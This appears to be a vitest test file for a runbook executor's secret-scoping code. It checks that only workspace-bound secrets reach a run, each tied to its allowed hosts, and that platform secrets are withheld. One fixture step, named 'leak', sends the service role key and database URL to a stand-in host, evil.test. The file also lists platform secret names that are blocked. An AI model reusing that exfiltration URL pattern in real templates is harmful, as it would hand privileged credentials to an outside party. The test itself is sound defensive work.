/** Which secrets a run may use: only bound ones, never the platform's, each with its hosts. */
import { createHash } from 'node:crypto'
import { describe, expect, it } from 'vitest'
import {
  bindStatement,
  describeUnavailable,
  isPlatformSecret,
  runSecrets,
  type SecretBinding,
} from '../../supabase/functions/_shared/executor/secrets.ts'
import { sha256Hex } from '../../supabase/functions/_shared/executor/pinned-template.ts'
import { parseTemplate, planRun, type Plan } from '../../supabase/functions/_shared/runbook/index.ts'

function plan(env = 'staging'): Plan {
  const parsed = parseTemplate(`version: 1
kind: check
title: Uses secrets
inputs:
  - { key: env, label: Environment, type: choice, options: [staging, production], default: staging }
secrets:
  - { name: API_TOKEN, required: true }
  - { name: WEBHOOK }
  - { name: SUPABASE_SERVICE_ROLE_KEY }
  - { name: DATABASE_URL }
steps:
  - { id: call, title: Call, kind: http, with: { url: "https://api.example.com/x", headers: { authorization: "Bearer \${{ secrets.API_TOKEN }}" } } }
  - { id: hook, title: Hook, kind: http, with: { method: POST, url: "\${{ secrets.WEBHOOK }}" } }
  - { id: leak, title: Leak, kind: http, with: { url: "https://evil.test/?k=\${{ secrets.SUPABASE_SERVICE_ROLE_KEY }}&d=\${{ secrets.DATABASE_URL }}" } }
`)
  if (!parsed.ok) throw new Error(JSON.stringify(parsed.errors))
  const planned = planRun(parsed.template, { inputs: { env } })
  if (!planned.ok) throw new Error('plan')
  return planned.plan
}

const env: Record<string, string> = {
  API_TOKEN: 'tok-1',
  WEBHOOK: 'https://hooks.example.com/abc',
  SUPABASE_SERVICE_ROLE_KEY: 'service-key',
  DATABASE_URL: 'postgres://x',
}
const readEnv = (name: string) => env[name]

describe('isPlatformSecret', () => {
  it.each([
    ['SUPABASE_SERVICE_ROLE_KEY', true],
    ['SUPABASE_URL', true],
    ['SUPABASE_ANON_KEY', true],
    ['SUPABASE_DB_URL', true],
    ['SB_ANYTHING', true],
    ['OPS_EXECUTOR_BUDGET_SECONDS', true],
    ['DATABASE_URL', true],
    ['GITHUB_TOKEN', false],
    ['MY_SUPABASE_TOKEN', false],
    ['DATABASE_URL_REPLICA', false],
    ['SBX', false],
  ])('%s → %s', (name, platform) => {
    expect(isPlatformSecret(name)).toBe(platform)
  })
})

describe('runSecrets', () => {
  const bound = (name: string, hosts: string[], environments: string[] | null = null): SecretBinding => ({ name, hosts, environments })

  it('hands out a bound, set secret with its hosts, and never a platform name even when bound and set', () => {
    const secrets = runSecrets(
      plan(),
      'staging',
      [bound('API_TOKEN', ['API.example.com']), bound('SUPABASE_SERVICE_ROLE_KEY', ['evil.test']), bound('DATABASE_URL', ['evil.test'])],
      readEnv,
    )
    expect(secrets.values).toEqual({ API_TOKEN: 'tok-1' })
    expect(secrets.hosts).toEqual({ API_TOKEN: ['api.example.com'] })
    expect(secrets.platform).toEqual(['DATABASE_URL', 'SUPABASE_SERVICE_ROLE_KEY'])
    expect(secrets.unavailable).toEqual({ WEBHOOK: 'is not bound to this workspace' })
  })

  it('needs the binding to cover the run’s environment, and a value in the function’s environment', () => {
    const secrets = runSecrets(
      plan('production'),
      'production',
      [bound('API_TOKEN', ['api.example.com'], ['staging']), bound('WEBHOOK', ['hooks.example.com'], ['production'])],
      (name) => (name === 'WEBHOOK' ? '' : readEnv(name)),
    )
    expect(secrets.values).toEqual({})
    expect(secrets.unavailable).toEqual({
      API_TOKEN: 'is bound to this workspace only for staging, not production',
      WEBHOOK: "is bound but not set in the function's environment",
    })
    expect(describeUnavailable(secrets, ['API_TOKEN', 'WEBHOOK'])).toBe(
      "secret API_TOKEN is bound to this workspace only for staging, not production, secret WEBHOOK is bound but not set in the function's environment",
    )
  })

  it('hands the project’s public URL and anon key to any run, for the project’s own host only', () => {
    const parsed = parseTemplate(`version: 1
kind: check
title: Health
steps:
  - { id: health, title: Health, kind: http, with: { url: "\${{ project.url }}/auth/v1/health", headers: { apikey: "\${{ project.anon_key }}" } } }
`)
    if (!parsed.ok) throw new Error(JSON.stringify(parsed.errors))
    const planned = planRun(parsed.template, { env: 'staging' })
    if (!planned.ok) throw new Error('plan')
    const project = { SUPABASE_URL: 'https://abcd.supabase.co', SUPABASE_ANON_KEY: 'anon-key' } as Record<string, string>
    const secrets = runSecrets(planned.plan, 'staging', [], (name) => project[name])
    expect(secrets.values).toEqual({ 'project.url': project.SUPABASE_URL, 'project.anon_key': project.SUPABASE_ANON_KEY })
    expect(secrets.hosts).toEqual({ 'project.url': ['abcd.supabase.co'], 'project.anon_key': ['abcd.supabase.co'] })
    expect(runSecrets(planned.plan, 'staging', [], () => undefined).unavailable).toEqual({
      'project.url': "is not set (SUPABASE_URL in the function's environment)",
      'project.anon_key': "is not set (SUPABASE_PUBLISHABLE_KEYS or SUPABASE_ANON_KEY in the function's environment)",
    })
    // A project with the new keys: project.anon_key is its default publishable key, ahead of the legacy anon key.
    const current = {
      ...project,
      SUPABASE_PUBLISHABLE_KEYS: JSON.stringify({ other: 'sb_publishable_other', default: 'sb_publishable_default' }),
    } as Record<string, string>
    expect(runSecrets(planned.plan, 'staging', [], (name) => current[name]).values['project.anon_key']).toBe('sb_publishable_default')
  })

  it('reads no value of a secret the workspace does not bind', () => {
    const read: string[] = []
    runSecrets(plan(), 'staging', [bound('API_TOKEN', ['api.example.com'])], (name) => {
      read.push(name)
      return env[name]
    })
    expect(read).toEqual(['API_TOKEN'])
  })

  it('tells how to bind a secret', () => {
    expect(bindStatement('GITHUB_TOKEN', 'ws-1', ['api.github.com'])).toBe(
      "select ops.bind_secret('GITHUB_TOKEN', 'ws-1', array['api.github.com'])",
    )
    expect(bindStatement('WEBHOOK', 'ws-1', [])).toBe("select ops.bind_secret('WEBHOOK', 'ws-1', array['<host it is sent to>'])")
  })
})

describe('sha256Hex', () => {
  it.each(['', 'version: 1\n', 'ünïcödé ✓ 🚀\r\n'])('matches node:crypto for %j', async (text) => {
    expect(await sha256Hex(text)).toBe(createHash('sha256').update(text, 'utf8').digest('hex'))
  })
})
